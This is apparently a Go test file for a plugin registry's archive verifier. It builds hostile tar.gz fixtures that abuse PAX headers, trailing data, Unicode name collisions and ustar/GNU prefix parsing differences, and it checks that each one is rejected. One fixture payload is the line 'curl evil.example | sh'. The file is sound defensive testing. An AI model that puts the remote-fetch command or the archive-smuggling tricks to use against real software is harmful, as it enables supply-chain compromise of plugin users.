package verify_test

import (
	"archive/tar"
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/pluginyard/registry/verify"
)

// paxHeader is a hand-written PAX extended header ('x' unless typ says otherwise) with
// records in the given order: tar.Writer writes at most one per entry, and the attacks
// need several.
func paxHeader(typ byte, kv ...string) entry {
	var records string
	for i := 0; i+1 < len(kv); i += 2 {
		rec := " " + kv[i] + "=" + kv[i+1] + "\n"
		n := len(rec) + 1
		for len(itoa(n))+len(rec) != n {
			n++
		}
		records += itoa(n) + rec
	}
	return entry{Name: "PaxHeaders/x", Body: records, RawType: typ}
}

func itoa(n int) string { return string(appendInt(nil, n)) }

func appendInt(b []byte, n int) []byte {
	if n >= 10 {
		b = appendInt(b, n/10)
	}
	return append(b, byte('0'+n%10))
}

// evilPlugin is a valid plugin whose checksums.txt also lists evil.bin, with before
// evil.bin the entries of trick: the shape of an attack that makes an extractor write
// evil.bin's bytes over the executable the registry checked.
func evilPlugin(tb testing.TB, trick ...entry) []entry {
	evil := file("evil.bin", "#!/bin/sh\ncurl evil.example | sh\n")
	es := withChecksums("", append(pluginFiles(tb), evil)...)
	var out []entry
	for _, en := range es {
		if en.Name == evil.Name {
			out = append(out, trick...)
		}
		out = append(out, en)
	}
	return out
}

// hostile are archives the reader must refuse, each by the rule its name starts with. They
// are also committed (testdata/hostile/<name>.tar.gz, -update rewrites them) for the
// HTTP-level hostile-input suite.
func hostile(tb testing.TB) []struct {
	name string
	data []byte
	want []finding
} {
	valid := buildTar(tb, validPlugin(tb))
	appended := append(bytes.Clone(valid), buildTar(tb, []entry{file("evil.bin", "evil\n")})...)
	return []struct {
		name string
		data []byte
		want []finding
	}{
		{"archive.pax.global-path", buildTarGz(tb, evilPlugin(tb, entry{Type: tar.TypeXGlobalHeader, PAX: map[string]string{"path": "server/plugin-linux-amd64"}})),
			[]finding{e("archive.pax.global", "")}},
		{"archive.pax.global-comment", buildTarGz(tb, append([]entry{{Type: tar.TypeXGlobalHeader, PAX: map[string]string{"comment": "0123abcd"}}}, validPlugin(tb)...)),
			[]finding{e("archive.pax.global", "")}},
		{"archive.pax.key-xattr", buildTarGz(tb, evilPlugin(tb, paxHeader('x', "SCHILY.xattr.user.evil", "1"))),
			[]finding{e("archive.pax.key", "evil.bin"), e("checksums.absent", "checksums.txt")}},
		{"archive.pax.key-hdrcharset", buildTarGz(tb, evilPlugin(tb, paxHeader('x', "hdrcharset", "BINARY"))),
			[]finding{e("archive.pax.key", "evil.bin"), e("checksums.absent", "checksums.txt")}},
		{"archive.type-sparse", buildTarGz(tb, plus(tb, sparseEntries("sparse.bin")...)),
			[]finding{e("archive.type", "sparse.bin")}},
		{"archive.trailing_data-entry", gz(tb, appended), []finding{e("archive.trailing_data", "")}},
		{"archive.trailing_data-gzip-member", append(gz(tb, valid), buildTarGz(tb, []entry{file("evil.bin", "evil\n")})...), []finding{e("archive.trailing_data", "")}},
		{"archive.trailing_data-byte", gz(tb, append(bytes.Clone(valid), 0, 0, 1)), []finding{e("archive.trailing_data", "")}},
		{"archive.name.collision-manifest", buildTarGz(tb, plus(tb, file("MANIFEST.YAML", "id: evil\n"))),
			[]finding{e("archive.name.collision", "MANIFEST.YAML"), e("checksums.unlisted", "checksums.txt")}},
		{"archive.name.collision-nfd", buildTarGz(tb, withChecksums("", append(pluginFiles(tb), file("docs/caf\u00e9.md", "a"), file("docs/cafe\u0301.md", "b"))...)),
			[]finding{e("archive.name.collision", "docs/cafe\u0301.md")}},
		{"archive.name.collision-kelvin", buildTarGz(tb, withChecksums("", append(pluginFiles(tb), file("docs/k.md", "a"), file("docs/\u212a.md", "b"))...)),
			[]finding{e("archive.name.collision", "docs/\u212a.md")}},
		{"archive.name.collision-trailing-dot", buildTarGz(tb, withChecksums("", append(pluginFiles(tb), file("docs/a.md", "a"), file("docs/a.md.", "b"))...)),
			[]finding{e("archive.name.collision", "docs/a.md.")}},
		{"archive.name.collision-directory", buildTarGz(tb, withChecksums("", append(pluginFiles(tb), file("Docs/a.md", "a"), file("docs/b.md", "b"))...)),
			[]finding{e("archive.name.collision", "docs/b.md")}},
		{"archive.header.extended-two-pax", buildTarGz(tb, evilPlugin(tb, paxHeader('x', "path", "server/plugin-linux-amd64"), paxHeader('x', "mtime", "1"))),
			[]finding{e("archive.header.extended", "evil.bin")}},
		{"archive.header.extended-pax-and-gnu", buildTarGz(tb, evilPlugin(tb, entry{Name: "././@LongLink", Body: "server/plugin-linux-amd64\x00", RawType: tar.TypeGNULongName}, paxHeader('x', "path", "evil.bin"))),
			[]finding{e("archive.header.extended", "server/plugin-linux-amd64"), e("archive.duplicate", "server/plugin-linux-amd64"), e("checksums.absent", "checksums.txt")}},
		{"archive.header.prefix-gnu", buildTarGz(tb, evilPlugin(tb, entry{Name: "docs/x.md", Body: "x", Format: tar.FormatGNU, Patch: map[int]string{345: "server"}})),
			[]finding{e("archive.header.prefix", "server/docs/x.md"), e("checksums.unlisted", "checksums.txt")}},
		{"archive.header.prefix-star", buildTarGz(tb, plus(tb, entry{Name: starName, Body: "x", Format: tar.FormatUSTAR, Patch: map[int]string{508: "tar\x00"}})),
			[]finding{e("archive.header.prefix", starName[:131]+"/x.md"), e("checksums.unlisted", "checksums.txt")}},
		{"archive.header.size-directory", buildTarGz(tb, plus(tb, entry{Name: "docs/", Type: tar.TypeDir, Patch: map[int]string{124: "00000001000\x00"}})),
			[]finding{e("archive.header.size", "docs/")}},
	}
}

// starName has a 155-byte ustar prefix whose last 24 bytes are octal digits: with a star
// trailer archive/tar reads 131 bytes of it as the prefix and the rest as times, Python's
// tarfile all 155 as the prefix.
var starName = strings.Repeat("d", 131) + strings.Repeat("0", 24) + "/x.md"

func TestHostileArchives(t *testing.T) {
	dir := filepath.Join("testdata", "hostile")
	for _, tt := range hostile(t) {
		t.Run(tt.name, func(t *testing.T) {
			path := filepath.Join(dir, tt.name+".tar.gz")
			if *update {
				if err := os.MkdirAll(dir, 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(path, tt.data, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			committed, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run go test ./verify -run TestHostileArchives -update)", err)
			}
			for what, data := range map[string][]byte{"built": tt.data, "committed": committed} {
				rep := mustPackage(t, data, verify.Options{})
				if diff := cmp.Diff(tt.want, ownFindings(rep.Problems), sortFindings); diff != "" {
					t.Errorf("%s: problems (-want +got):\n%s\nall: %v", what, diff, rep.Problems)
				}
				if rep.OK() {
					t.Errorf("%s: accepted", what)
				}
			}
		})
	}
}

// TestEveryArchiveRuleHasAHostileFixture ties the rules this work added to the committed
// fixtures, so that the HTTP suite can replay one archive per rule.
func TestEveryArchiveRuleHasAHostileFixture(t *testing.T) {
	rules := []string{"archive.pax.global", "archive.pax.key", "archive.trailing_data", "archive.name.collision", "archive.header.extended", "archive.header.prefix", "archive.header.size"}
	files, err := filepath.Glob(filepath.Join("testdata", "hostile", "*.tar.gz"))
	if err != nil {
		t.Fatal(err)
	}
	have := map[string]bool{}
	for _, f := range files {
		rule, _, _ := strings.Cut(strings.TrimSuffix(filepath.Base(f), ".tar.gz"), "-")
		have[rule] = true
	}
	for _, r := range rules {
		if !have[r] {
			t.Errorf("no testdata/hostile/%s-*.tar.gz fixture", r)
		}
	}
}
